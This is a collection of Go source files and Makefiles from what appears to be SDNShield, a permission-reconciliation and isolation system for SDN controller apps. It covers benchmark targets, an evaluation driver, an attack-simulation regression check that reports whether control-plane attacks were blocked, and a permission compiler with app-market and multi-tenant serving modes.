		call.StatsLevel = of.StatsFlow
	case "port":
		call.StatsLevel = of.StatsPort
	case "switch":
		call.StatsLevel = of.StatsSwitch
	default:
		return nil, fmt.Errorf("sdnshield: unknown stats level %q", c.StatsLevel)
	}

	if c.HostIP != "" {
		ip, _, err := parseIPv4(c.HostIP)
		if err != nil {
			return nil, err
		}
		call.HostIP = ip
		call.HostPort = uint16(c.HostPort)
		call.HasHostIP = true
	}
	return call, nil
}
