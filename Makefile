GO ?= go

.PHONY: build test race vet check bench attacksim

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

race:
	$(GO) test -race ./...

# check is the CI gate: static analysis plus the full suite under the
# race detector.
check: vet race

bench:
	$(GO) test -bench=. -benchtime=100x -run=^$$ ./internal/bench/

attacksim:
	$(GO) run ./cmd/attacksim -v
