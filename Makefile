GO ?= go

.PHONY: build test race vet check bench bench-obs attacksim

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

race:
	$(GO) test -race ./...

# check is the CI gate: static analysis plus the full suite under the
# race detector.
check: vet race

bench: bench-obs
	$(GO) test -bench=. -benchtime=100x -run=^$$ ./internal/bench/

# bench-obs bounds the telemetry overhead: obs micro-benchmarks (each
# instrument enabled vs disabled) plus the end-to-end mediated-call pair,
# whose On/Off delta must stay within the 5% budget (DESIGN.md §10).
bench-obs:
	$(GO) test -bench=. -benchtime=1000000x -run=^$$ ./internal/obs/
	$(GO) test -bench=BenchmarkMediatedCall -benchtime=1s -count=4 -run=^$$ .

attacksim:
	$(GO) run ./cmd/attacksim -v
