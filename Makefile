GO ?= go
GOFMT ?= gofmt

.PHONY: build test race vet fmt-check check bench bench-obs bench-audit bench-recorder bench-market bench-trace bench-tenants bench-heat bench-all attacksim fuzz-smoke

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

# fmt-check fails (listing the offenders) when any file is not gofmt-clean.
fmt-check:
	@out="$$($(GOFMT) -l .)"; if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

race:
	$(GO) test -race ./...

# check is the CI gate: formatting, static analysis, then the full suite
# under the race detector.
check: fmt-check vet race

bench: bench-obs
	$(GO) test -bench=. -benchtime=100x -run=^$$ ./internal/bench/

# bench-obs bounds the telemetry overhead: obs micro-benchmarks (each
# instrument enabled vs disabled) plus the end-to-end mediated-call pair,
# whose On/Off delta must stay within the 5% budget (DESIGN.md §10).
bench-obs:
	$(GO) test -bench=. -benchtime=1000000x -run=^$$ ./internal/obs/
	$(GO) test -bench=BenchmarkMediatedCallObs -benchtime=1s -count=4 -run=^$$ .

# bench-audit bounds the audit-pipeline overhead on the same mediated
# call: the AuditOn/AuditOff delta must stay within the 5% budget
# (DESIGN.md §11).
bench-audit:
	$(GO) test -bench=BenchmarkMediatedCallAudit -benchtime=1s -count=4 -run=^$$ .

# bench-recorder enforces the flight recorder's 5% budget: the guard
# runs RecorderOn/RecorderOff pairs and fails when the median ratio
# exceeds 1.05 (DESIGN.md §13). SHORT=1 drops to 3 pairs for CI.
bench-recorder:
	SDNSHIELD_RECORDER_GUARD=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestRecorderOverheadBudget -v .

# bench-market measures the app-market pipeline — installs/sec with a
# cold vs warm verdict cache (the warm rate must hold ≥1000/s) and the
# job spine's throughput/latency — and writes BENCH_market.json.
# SHORT=1 shrinks the workload for CI.
bench-market:
	SDNSHIELD_MARKET_BENCH=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestMarketBenchTrajectory -v ./internal/bench/

# bench-tenants is the multi-tenant flatness guard: a thousand tenants
# (two hundred with SHORT=1) install their apps and issue mediated calls
# across shard counts {1,4,16}, and the 16-shard call p95 must stay
# within 10% of the single-tenant baseline (DESIGN.md §16). Writes
# BENCH_tenants.json.
bench-tenants:
	SDNSHIELD_TENANT_BENCH=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestTenantBenchFlatness -v ./internal/bench/

# bench-trace enforces the span layer's 5% budget on the mediated-call
# hot path: the guard runs SpanOn/SpanOff chunk pairs and fails when
# the median ratio exceeds 1.05 (DESIGN.md §15). The span throughput
# and per-stage install breakdown (BENCH_trace.json) ride bench-market.
# SHORT=1 drops to 5 rounds for CI.
bench-trace:
	SDNSHIELD_SPAN_GUARD=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestSpanOverheadBudget -v .

# bench-heat enforces the decision-heat profiler's 5% budget on the
# mediated-call hot path (HeatOn/HeatOff chunk pairs, median ratio
# ≤1.05, DESIGN.md §17) and writes BENCH_heat.json: the per-clause heat
# distribution and check latency percentiles at sampling 1. SHORT=1
# shrinks both for CI.
bench-heat:
	SDNSHIELD_HEAT_GUARD=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestHeatOverheadBudget -v .
	SDNSHIELD_HEAT_BENCH=1 $(GO) test $(if $(SHORT),-short) -count=1 -run=TestHeatBenchTrajectory -v ./internal/bench/

# bench-all runs every bench gate in one pass, refreshing every
# BENCH_*.json trajectory file. SHORT=1 propagates to each gate.
bench-all: bench-recorder bench-trace bench-heat bench-market bench-tenants

attacksim:
	$(GO) run ./cmd/attacksim -v

# fuzz-smoke runs the native fuzz targets briefly — enough for CI to
# catch parser panics and round-trip regressions on mutated market
# packages without the cost of a long fuzzing campaign.
FUZZTIME ?= 10s
fuzz-smoke:
	$(GO) test -run=^$$ -fuzz=FuzzParseManifest -fuzztime=$(FUZZTIME) ./internal/permlang/
	$(GO) test -run=^$$ -fuzz=FuzzParsePolicy -fuzztime=$(FUZZTIME) ./internal/policylang/
	$(GO) test -run=^$$ -fuzz=FuzzJobDecode -fuzztime=$(FUZZTIME) ./internal/jobs/
	$(GO) test -run=^$$ -fuzz=FuzzTenantID -fuzztime=$(FUZZTIME) ./internal/tenant/
