// Command sdnbench regenerates every table and figure of the SDNShield
// evaluation (§IX): the Table I attack-coverage matrix, the Figure 5
// permission-check throughput bars, the Figure 6 latency and Figure 7
// throughput comparisons, the Figure 8 scalability sweep, and the
// reconciliation-cost measurement.
//
// Usage:
//
//	sdnbench -exp all
//	sdnbench -exp fig6 -switches 1,4,16,64 -rounds 100
package main

import (
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"sdnshield/internal/bench"
	"sdnshield/internal/jobs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/tenant"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "sdnbench:", err)
		os.Exit(1)
	}
}

func parseInts(s string) ([]int, error) {
	parts := strings.Split(s, ",")
	out := make([]int, 0, len(parts))
	for _, p := range parts {
		n, err := strconv.Atoi(strings.TrimSpace(p))
		if err != nil {
			return nil, fmt.Errorf("bad integer list %q: %w", s, err)
		}
		out = append(out, n)
	}
	return out, nil
}

func run(args []string) error {
	fs := flag.NewFlagSet("sdnbench", flag.ContinueOnError)
	exp := fs.String("exp", "all", "experiment: table1, fig5, fig6, fig7, fig8, reconcile, ablation or all")
	switchList := fs.String("switches", "1,4,16,64", "switch counts for fig6/fig7")
	rounds := fs.Int("rounds", 100, "latency probes per cell (fig6/fig8; the paper uses 100)")
	checks := fs.Int("checks", 200000, "permission checks per cell (fig5)")
	duration := fs.Duration("duration", time.Second, "flood duration per cell (fig7)")
	appsList := fs.String("apps", "1,2,4,8,16,32", "concurrent app counts for fig8")
	callsList := fs.String("calls", "1,4,16,64", "API calls per event for fig8")
	telemetryAddr := fs.String("telemetry-addr", "", "serve the telemetry endpoint (/metrics, /health, /audit, /traces, pprof) on this address, e.g. 127.0.0.1:9090")
	auditFile := fs.String("audit-file", "", "append audit events as JSONL to this file (rotated at 64 MiB)")
	traceFile := fs.String("trace-file", "", "append finished trace spans as JSONL to this file (rotated at 64 MiB)")
	sloOn := fs.Bool("slo", false, "evaluate the built-in SLOs and serve them at /slo")
	bundleDir := fs.String("bundle-dir", "", "write diagnostic bundles (anomaly/quota/quarantine captures) to this directory as <id>.json")
	profDir := fs.String("prof-dir", "", "run the continuous profiler: delta CPU/heap/mutex/block pprof captures land here in a bounded ring, surfaced at /prof and inside diagnostic bundles")
	tenantID := fs.String("tenant", "", "stamp all audit events of this run with a tenant ID (so a shared journal sink can be filtered per tenant)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *tenantID != "" {
		if _, err := tenant.ParseID(*tenantID); err != nil {
			return err
		}
		audit.SetDefaultTenant(*tenantID)
	}

	stopTelemetry, bound, err := bench.StartTelemetry(*telemetryAddr)
	if err != nil {
		return err
	}
	if bound != "" {
		fmt.Fprintf(os.Stderr, "telemetry endpoint on http://%s/\n", bound)
	}
	stopAudit, err := bench.StartAuditSink(*auditFile)
	if err != nil {
		stopTelemetry()
		return err
	}
	stopTrace, err := bench.StartTraceSink(*traceFile)
	if err != nil {
		stopAudit()
		stopTelemetry()
		return err
	}
	stopSLO := bench.StartSLO(*sloOn)
	stopBundles, err := bench.StartBundleDir(*bundleDir)
	if err != nil {
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return err
	}
	stopProf, err := bench.StartProfiler(*profDir)
	if err != nil {
		stopBundles()
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return err
	}
	// Flush the audit sink and close the telemetry server on SIGINT/
	// SIGTERM too, so an interrupted run loses no events.
	cancelShutdown := bench.OnShutdown(jobs.DrainAll, stopProf, stopBundles, stopSLO, stopTrace, stopAudit, stopTelemetry)
	defer cancelShutdown()
	defer func() { fmt.Println(bench.TelemetrySummary()) }()

	switches, err := parseInts(*switchList)
	if err != nil {
		return err
	}
	appCounts, err := parseInts(*appsList)
	if err != nil {
		return err
	}
	callCounts, err := parseInts(*callsList)
	if err != nil {
		return err
	}

	want := func(name string) bool { return *exp == "all" || *exp == name }
	ran := false

	if want("table1") {
		ran = true
		outcomes, err := bench.RunEffectiveness()
		if err != nil {
			return fmt.Errorf("table1: %w", err)
		}
		fmt.Println(bench.FormatTable1(outcomes))
	}
	if want("fig5") {
		ran = true
		fmt.Println(bench.FormatFig5(bench.RunFig5(*checks)))
	}
	if want("fig6") {
		ran = true
		rows, err := bench.RunFig6(switches, *rounds)
		if err != nil {
			return fmt.Errorf("fig6: %w", err)
		}
		fmt.Println(bench.FormatFig6(rows))
	}
	if want("fig7") {
		ran = true
		rows, err := bench.RunFig7(switches, *duration)
		if err != nil {
			return fmt.Errorf("fig7: %w", err)
		}
		fmt.Println(bench.FormatFig7(rows))
	}
	if want("fig8") {
		ran = true
		rows, err := bench.RunFig8(appCounts, callCounts, *rounds)
		if err != nil {
			return fmt.Errorf("fig8: %w", err)
		}
		fmt.Println(bench.FormatFig8(rows))
	}
	if want("ablation") {
		ran = true
		rows, err := bench.RunAblations()
		if err != nil {
			return fmt.Errorf("ablation: %w", err)
		}
		fmt.Println(bench.FormatAblations(rows))
	}
	if want("reconcile") {
		ran = true
		rows, err := bench.RunReconcileBench()
		if err != nil {
			return fmt.Errorf("reconcile: %w", err)
		}
		fmt.Println(bench.FormatReconcile(rows))
	}
	if !ran {
		return fmt.Errorf("unknown experiment %q", *exp)
	}
	return nil
}
