// Command attacksim runs the four proof-of-concept control-plane attacks
// of §IX-B1 against the baseline monolithic controller and against the
// SDNShield-enabled one (with permissions reconciled under the Scenario 1
// security policy), and reports the outcome of each.
package main

import (
	"flag"
	"fmt"
	"os"

	"sdnshield/internal/bench"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "attacksim:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("attacksim", flag.ContinueOnError)
	verbose := fs.Bool("v", false, "print per-attack detail")
	if err := fs.Parse(args); err != nil {
		return err
	}

	outcomes, err := bench.RunEffectiveness()
	if err != nil {
		return err
	}
	if *verbose {
		for _, o := range outcomes {
			status := "BLOCKED"
			if o.Succeeded {
				status = "SUCCEEDED"
			}
			fmt.Printf("class %d on %-10s %-9s (denied steps: %d, launch denied: %v)\n  %s\n",
				o.Class, o.Runtime+":", status, o.DeniedSteps, o.LaunchDenied, o.Attack)
		}
		fmt.Println()
	}
	fmt.Println(bench.FormatTable1(outcomes))

	// Exit non-zero if SDNShield failed to stop any attack — the
	// regression signal.
	for _, o := range outcomes {
		if o.Runtime == "sdnshield" && o.Succeeded {
			return fmt.Errorf("SDNShield failed to block class %d", o.Class)
		}
	}
	return nil
}
