// Command attacksim runs the four proof-of-concept control-plane attacks
// of §IX-B1 against the baseline monolithic controller and against the
// SDNShield-enabled one (with permissions reconciled under the Scenario 1
// security policy), and reports the outcome of each. The -fault-* flags
// layer a seeded fault-injection plan over every switch's control
// connection, validating that the outcomes hold under degraded transport.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"sdnshield/internal/bench"
	"sdnshield/internal/faults"
	"sdnshield/internal/jobs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
	"sdnshield/internal/tenant"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "attacksim:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("attacksim", flag.ContinueOnError)
	verbose := fs.Bool("v", false, "print per-attack detail")
	faultDrop := fs.Float64("fault-drop", 0, "per-message drop probability on switch connections")
	faultDup := fs.Float64("fault-dup", 0, "per-message duplication probability on switch connections")
	faultDelayMS := fs.Int("fault-delay-ms", 0, "max injected per-message delay (enables delay faults at p=0.2)")
	faultSeed := fs.Int64("fault-seed", 1, "seed for the fault schedule (same seed, same schedule)")
	telemetryAddr := fs.String("telemetry-addr", "", "serve the telemetry endpoint (/metrics, /health, /audit, /traces, pprof) on this address, e.g. 127.0.0.1:9090")
	auditFile := fs.String("audit-file", "", "append audit events as JSONL to this file (rotated at 64 MiB)")
	traceFile := fs.String("trace-file", "", "append finished trace spans as JSONL to this file (rotated at 64 MiB)")
	sloOn := fs.Bool("slo", false, "evaluate the built-in SLOs and serve them at /slo")
	bundleDir := fs.String("bundle-dir", "", "write diagnostic bundles (anomaly/quota/quarantine captures) to this directory as <id>.json")
	profDir := fs.String("prof-dir", "", "run the continuous profiler: delta CPU/heap/mutex/block pprof captures land here in a bounded ring, surfaced at /prof and inside diagnostic bundles")
	tenantID := fs.String("tenant", "", "stamp all audit events of this run with a tenant ID (so a shared journal sink can be filtered per tenant)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *tenantID != "" {
		if _, err := tenant.ParseID(*tenantID); err != nil {
			return err
		}
		audit.SetDefaultTenant(*tenantID)
	}

	stopTelemetry, bound, err := bench.StartTelemetry(*telemetryAddr)
	if err != nil {
		return err
	}
	if bound != "" {
		fmt.Fprintf(os.Stderr, "telemetry endpoint on http://%s/\n", bound)
	}
	stopAudit, err := bench.StartAuditSink(*auditFile)
	if err != nil {
		stopTelemetry()
		return err
	}
	stopTrace, err := bench.StartTraceSink(*traceFile)
	if err != nil {
		stopAudit()
		stopTelemetry()
		return err
	}
	stopSLO := bench.StartSLO(*sloOn)
	stopBundles, err := bench.StartBundleDir(*bundleDir)
	if err != nil {
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return err
	}
	stopProf, err := bench.StartProfiler(*profDir)
	if err != nil {
		stopBundles()
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return err
	}
	// Flush the audit sink and close the telemetry server on SIGINT/
	// SIGTERM too, so an interrupted run loses no events.
	cancelShutdown := bench.OnShutdown(jobs.DrainAll, stopProf, stopBundles, stopSLO, stopTrace, stopAudit, stopTelemetry)
	defer cancelShutdown()
	defer func() { fmt.Println(bench.TelemetrySummary()) }()

	var wrap bench.FaultWrap
	if *faultDrop > 0 || *faultDup > 0 || *faultDelayMS > 0 {
		cfg := faults.RandomConfig{
			Drop:      *faultDrop,
			Duplicate: *faultDup,
		}
		if *faultDelayMS > 0 {
			cfg.DelayProb = 0.2
			cfg.MaxDelay = time.Duration(*faultDelayMS) * time.Millisecond
		}
		seed := *faultSeed
		wrap = func(dpid of.DPID, ctrl of.Conn) of.Conn {
			// Per-switch seeds keep schedules independent yet reproducible
			// for a given -fault-seed.
			return faults.Wrap(ctrl, faults.NewRandom(seed+int64(dpid), cfg))
		}
	}

	outcomes, err := bench.RunEffectivenessFaulty(wrap)
	if err != nil {
		return err
	}
	if *verbose {
		for _, o := range outcomes {
			status := "BLOCKED"
			if o.Succeeded {
				status = "SUCCEEDED"
			}
			fmt.Printf("class %d on %-10s %-9s (denied steps: %d, launch denied: %v)\n  %s\n",
				o.Class, o.Runtime+":", status, o.DeniedSteps, o.LaunchDenied, o.Attack)
		}
		fmt.Println()
	}
	fmt.Println(bench.FormatTable1(outcomes))

	// Exit non-zero if SDNShield failed to stop any attack — the
	// regression signal.
	for _, o := range outcomes {
		if o.Runtime == "sdnshield" && o.Succeeded {
			return fmt.Errorf("SDNShield failed to block class %d", o.Class)
		}
	}
	return nil
}
