// Command sdnshieldc is the SDNShield permission compiler and
// reconciliation tool: it parses an app's permission manifest, verifies
// it against the administrator's security policy, and prints the
// reconciled permissions for review.
//
// Usage:
//
//	sdnshieldc -app monitor -manifest monitor.perm [-policy site.policy] [-strict]
//
// With -strict the exit code is 2 when the policy was violated (even if
// repaired), letting deployment pipelines gate on clean manifests.
//
// Market mode (-market-dir) operates on an on-disk app-market store of
// trusted vendor keys and signed release packages:
//
//	sdnshieldc -market-dir ./market -market-keygen acme
//	sdnshieldc -market-dir ./market -market-sign -app monitor \
//	    -market-vendor acme -market-version 1.2.0 -manifest monitor.perm
//	sdnshieldc -market-dir ./market -policy site.policy
//	sdnshieldc -market-dir ./market -policy site.policy -telemetry-addr 127.0.0.1:9090
//
// The last form serves the /market/* administration endpoints until
// interrupted. With -market-jobs the install/upgrade/recompute
// endpoints enqueue onto a durable job queue and answer 202 Accepted;
// poll /market/jobs/<id> for the verdict:
//
//	sdnshieldc -market-dir ./market -policy site.policy \
//	    -market-jobs ./market/jobs -market-node store-a \
//	    -telemetry-addr 127.0.0.1:9090
//
// Follower mode replicates another market's release log (re-verifying
// every signature locally before admission) into this node's store:
//
//	sdnshieldc -market-dir ./replica -policy site.policy \
//	    -market-follow http://127.0.0.1:9090 -telemetry-addr 127.0.0.1:9091
//
// With -market-sync-mode federate the follower keeps its own vendor
// trust anchors instead of importing the upstream's keys.
//
// Multi-tenant mode (-tenants-dir) hosts many isolated tenants — each
// with its own market, job queues and scoped observability — in one
// process, serving /t/<tenant>/market/... and the /tenants admin
// surface:
//
//	sdnshieldc -tenants-dir ./tenants -policy site.policy \
//	    -tenants-admin-token s3cret -telemetry-addr 127.0.0.1:9090
//	curl -X POST http://127.0.0.1:9090/tenants \
//	    -H 'Authorization: Bearer s3cret' \
//	    -d '{"op":"create","tenant":"acme"}'
//	curl -H 'X-Sdnshield-Tenant: acme' http://127.0.0.1:9090/t/acme/market/apps
//
// Scoped routes require the X-Sdnshield-Tenant header to agree with the
// path; in production a trusted front proxy authenticates the caller,
// injects that header, and strips client-supplied X-Sdnshield-Tenant
// and X-Sdnshield-Trace values before forwarding.
//
// Single-tenant runs can stamp their audit trail with -tenant <id>.
package main

import (
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"sdnshield"
	"sdnshield/internal/bench"
	"sdnshield/internal/jobs"
	"sdnshield/internal/market"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/span"
	"sdnshield/internal/tenant"
)

func main() {
	code, err := run(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, "sdnshieldc:", err)
		os.Exit(1)
	}
	os.Exit(code)
}

func run(args []string) (int, error) {
	fs := flag.NewFlagSet("sdnshieldc", flag.ContinueOnError)
	appName := fs.String("app", "app", "app identity the manifest belongs to")
	manifestPath := fs.String("manifest", "", "path to the permission manifest (required outside market mode)")
	policyPath := fs.String("policy", "", "path to the security policy (optional)")
	strict := fs.Bool("strict", false, "exit with status 2 on any policy violation")
	quiet := fs.Bool("quiet", false, "print only the reconciled permissions")
	telemetryAddr := fs.String("telemetry-addr", "", "serve the telemetry endpoint (/metrics, /health, /audit, pprof) on this address, e.g. 127.0.0.1:9090")
	auditFile := fs.String("audit-file", "", "append audit events as JSONL to this file (rotated at 64 MiB)")
	traceFile := fs.String("trace-file", "", "append finished trace spans as JSONL to this file (rotated at 64 MiB)")
	sloOn := fs.Bool("slo", false, "evaluate the built-in SLOs (install latency, queue wait, mediated calls, cache hits, dead letters) and serve them at /slo")
	bundleDir := fs.String("bundle-dir", "", "write diagnostic bundles (anomaly/quota/quarantine captures) to this directory as <id>.json")
	profDir := fs.String("prof-dir", "", "run the continuous profiler: delta CPU/heap/mutex/block pprof captures land here in a bounded ring, surfaced at /prof and inside diagnostic bundles")
	marketDir := fs.String("market-dir", "", "market mode: operate on this app-market directory (keys/ + releases/)")
	marketKeygen := fs.String("market-keygen", "", "market mode: generate a keypair for this vendor under the market dir, print the public key, and exit")
	marketSign := fs.Bool("market-sign", false, "market mode: package -app/-manifest as a signed release (needs -market-vendor, -market-version)")
	marketVendor := fs.String("market-vendor", "", "vendor whose key signs the release for -market-sign")
	marketVersion := fs.String("market-version", "", "semantic version (MAJOR.MINOR.PATCH) of the release for -market-sign")
	marketJobs := fs.String("market-jobs", "", "market serve mode: durable job-queue directory; install/upgrade/recompute enqueue and answer 202 (\"mem\" for a non-durable queue)")
	marketWorkers := fs.Int("market-workers", 4, "market serve mode: workers per job queue")
	marketNode := fs.String("market-node", "", "market serve mode: arm a leader lease under this node name (replication feed guard)")
	marketFollow := fs.String("market-follow", "", "market follower mode: pull releases from this upstream base URL into the market dir")
	marketSyncMode := fs.String("market-sync-mode", "replica", "follower mode: replica (ship the release log, import upstream keys) or federate (digest anti-entropy, locally provisioned keys)")
	marketSyncInterval := fs.Duration("market-sync-interval", 2*time.Second, "follower mode: upstream poll cadence")
	tenantsDir := fs.String("tenants-dir", "", "multi-tenant serve mode: host isolated tenants over this store; serves /t/<tenant>/market/..., /t/<tenant>/{audit,trace,apps,jobs} and the /tenants admin surface (pair with -telemetry-addr)")
	tenantsAdminToken := fs.String("tenants-admin-token", "", "require this bearer token on the /tenants admin API (empty leaves it open — only acceptable behind a trusted network boundary)")
	tenantID := fs.String("tenant", "", "stamp this tenant on audit events of a single-tenant run (multi-tenant serve mode derives the tenant per request instead)")
	if err := fs.Parse(args); err != nil {
		return 1, err
	}
	if *marketDir == "" && *tenantsDir == "" && *manifestPath == "" {
		fs.Usage()
		return 1, fmt.Errorf("-manifest is required")
	}
	if *tenantID != "" {
		if _, err := tenant.ParseID(*tenantID); err != nil {
			return 1, err
		}
		audit.SetDefaultTenant(*tenantID)
	}

	// Key generation needs no policy, telemetry or audit plumbing.
	if *marketDir != "" && *marketKeygen != "" {
		pub, err := market.Keygen(*marketDir, *marketKeygen)
		if err != nil {
			return 1, err
		}
		fmt.Printf("vendor %s public key: %s\n", *marketKeygen, hex.EncodeToString(pub))
		fmt.Printf("private key: %s\n", filepath.Join(*marketDir, "keys", *marketKeygen+".key"))
		return 0, nil
	}

	var policySrc string
	if *policyPath != "" {
		raw, err := os.ReadFile(*policyPath)
		if err != nil {
			return 1, err
		}
		policySrc = string(raw)
	}

	// Multi-tenant mode mounts /t/<tenant>/... and /tenants before the
	// telemetry server starts so the composed handler includes the
	// routes. Each tenant gets its own market (hydrated lazily from
	// <tenants-dir>/<id>/store), job queues and scoped observability.
	var tmgr *tenant.Manager
	if *tenantsDir != "" {
		var err error
		tmgr, err = tenant.NewManager(tenant.Config{
			Dir:         *tenantsDir,
			PolicySrc:   policySrc,
			DurableJobs: *marketJobs != "" && *marketJobs != "mem",
			JobWorkers:  *marketWorkers,
			AdminToken:  *tenantsAdminToken,
		})
		if err != nil {
			return 1, fmt.Errorf("tenant manager: %w", err)
		}
		defer tmgr.Close()
		tenant.MountHTTP(tmgr)
		if !*quiet {
			fmt.Fprintf(os.Stderr, "tenants: %d stored under %s\n", len(tmgr.Stored()), *tenantsDir)
		}
	}

	// Market mode mounts /market/* before the telemetry server starts so
	// the composed handler includes the routes.
	var mkt *market.Market
	var syncer *market.Syncer
	if *marketDir != "" && !*marketSign {
		reg := market.NewRegistry()
		loaded, problems, err := market.LoadDir(*marketDir, reg)
		if err != nil {
			return 1, err
		}
		mkt, err = market.New(reg, nil, market.Config{PolicySrc: policySrc})
		if err != nil {
			return 1, err
		}
		defer mkt.Close()
		if *marketNode != "" {
			lease := market.NewLeaderLease(*marketNode, 10*time.Second)
			mkt.SetLeaderLease(lease)
			// The leader keeps its own lease alive; replication reads are
			// side-effect free, so the lease dies with this process.
			stopHeartbeat := lease.Heartbeat()
			defer stopHeartbeat()
		}
		if *marketJobs != "" {
			jobDir := *marketJobs
			if jobDir == "mem" {
				jobDir = ""
			}
			jm, err := jobs.Open(jobs.Config{Dir: jobDir})
			if err != nil {
				return 1, fmt.Errorf("job queue: %w", err)
			}
			mkt.AttachJobs(jm, *marketWorkers)
		}
		if *marketFollow != "" {
			syncer = market.NewSyncer(reg, market.SyncConfig{
				Upstream: *marketFollow,
				Mode:     market.SyncMode(*marketSyncMode),
				Interval: *marketSyncInterval,
				Dir:      *marketDir,
				// Replicas share their leader's trust domain; federation
				// trusts only locally provisioned keys.
				TrustUpstreamKeys: market.SyncMode(*marketSyncMode) == market.SyncReplica,
			})
			market.MountSyncHTTP(syncer)
		}
		market.MountHTTP(mkt)
		if !*quiet {
			fmt.Fprintf(os.Stderr, "market: loaded %d release(s) from %s\n", loaded, *marketDir)
			for _, p := range problems {
				fmt.Fprintf(os.Stderr, "market: refused %s\n", p)
			}
		}
	}

	stopTelemetry, bound, err := bench.StartTelemetry(*telemetryAddr)
	if err != nil {
		return 1, err
	}
	if bound != "" {
		fmt.Fprintf(os.Stderr, "telemetry endpoint on http://%s/\n", bound)
	}
	stopAudit, err := bench.StartAuditSink(*auditFile)
	if err != nil {
		stopTelemetry()
		return 1, err
	}
	if *marketNode != "" {
		span.SetNode(*marketNode)
	}
	stopTrace, err := bench.StartTraceSink(*traceFile)
	if err != nil {
		stopAudit()
		stopTelemetry()
		return 1, err
	}
	stopSLO := bench.StartSLO(*sloOn)
	stopBundles, err := bench.StartBundleDir(*bundleDir)
	if err != nil {
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return 1, err
	}
	stopProf, err := bench.StartProfiler(*profDir)
	if err != nil {
		stopBundles()
		stopSLO()
		stopTrace()
		stopAudit()
		stopTelemetry()
		return 1, err
	}
	// Flush the audit sink and close the telemetry server on SIGINT/
	// SIGTERM too, so an interrupted run loses no events. Job queues
	// drain first: in-flight installs finish and the WAL is fsynced
	// before the audit trail is sealed.
	cancelShutdown := bench.OnShutdown(jobs.DrainAll, stopProf, stopBundles, stopSLO, stopTrace, stopAudit, stopTelemetry)
	defer cancelShutdown()
	defer jobs.DrainAll()
	// The reconciled permissions go to stdout; the digest must not mix in.
	defer func() { fmt.Fprintln(os.Stderr, bench.TelemetrySummary()) }()

	if tmgr != nil {
		for _, id := range tmgr.Stored() {
			fmt.Printf("tenant %s\n", id)
		}
		if bound != "" {
			fmt.Fprintf(os.Stderr, "serving /t/<tenant>/ and /tenants endpoints on http://%s/ — interrupt to exit\n", bound)
			select {} // OnShutdown drains every tenant's job queues and exits
		}
		return 0, nil
	}

	if *marketDir != "" {
		if *marketSign {
			return runMarketSign(*marketDir, *appName, *manifestPath, *marketVendor, *marketVersion)
		}
		if syncer != nil {
			if bound != "" {
				// Serving: poll the upstream in the background for as long
				// as the /market endpoints are up.
				syncer.Start()
				defer syncer.Stop()
			} else if n, err := syncer.SyncOnce(); err != nil {
				return 1, fmt.Errorf("sync from %s: %w", *marketFollow, err)
			} else if !*quiet {
				st := syncer.Stats()
				fmt.Fprintf(os.Stderr, "market: pulled %d release(s) from %s (last seq %d, in sync: %v)\n",
					n, *marketFollow, st.LastSeq, st.InSync)
			}
		}
		return runMarketReport(mkt, *quiet, *strict, bound)
	}

	manifestSrc, err := os.ReadFile(*manifestPath)
	if err != nil {
		return 1, err
	}
	manifest, err := sdnshield.ParseManifest(string(manifestSrc))
	if err != nil {
		return 1, fmt.Errorf("parse manifest: %w", err)
	}

	var policy *sdnshield.Policy
	if policySrc != "" {
		policy, err = sdnshield.ParsePolicy(policySrc)
		if err != nil {
			return 1, fmt.Errorf("parse policy: %w", err)
		}
	}

	result, err := sdnshield.Reconcile(*appName, manifest, policy)
	if err != nil {
		return 1, err
	}

	if !*quiet {
		fmt.Printf("app: %s\n", result.App)
		if macros := manifest.Macros(); len(macros) > 0 {
			fmt.Printf("stub macros: %v\n", macros)
		}
		if result.Clean {
			fmt.Println("policy check: clean")
		} else {
			fmt.Printf("policy check: %d violation(s)\n", len(result.Violations))
			for _, v := range result.Violations {
				fmt.Println("  -", v)
			}
		}
		fmt.Println("reconciled permissions:")
	}
	fmt.Println(result.Permissions)

	if *strict && !result.Clean {
		return 2, nil
	}
	return 0, nil
}

// runMarketSign packages a manifest as a signed release and saves it
// into the market directory, vetting it through a registry first so a
// broken package is never written.
func runMarketSign(dir, app, manifestPath, vendor, version string) (int, error) {
	switch {
	case manifestPath == "":
		return 1, fmt.Errorf("-market-sign needs -manifest")
	case vendor == "":
		return 1, fmt.Errorf("-market-sign needs -market-vendor")
	case version == "":
		return 1, fmt.Errorf("-market-sign needs -market-version")
	}
	manifestSrc, err := os.ReadFile(manifestPath)
	if err != nil {
		return 1, err
	}
	priv, err := market.LoadPrivateKey(filepath.Join(dir, "keys", vendor+".key"))
	if err != nil {
		return 1, fmt.Errorf("vendor key (run -market-keygen %s first?): %w", vendor, err)
	}
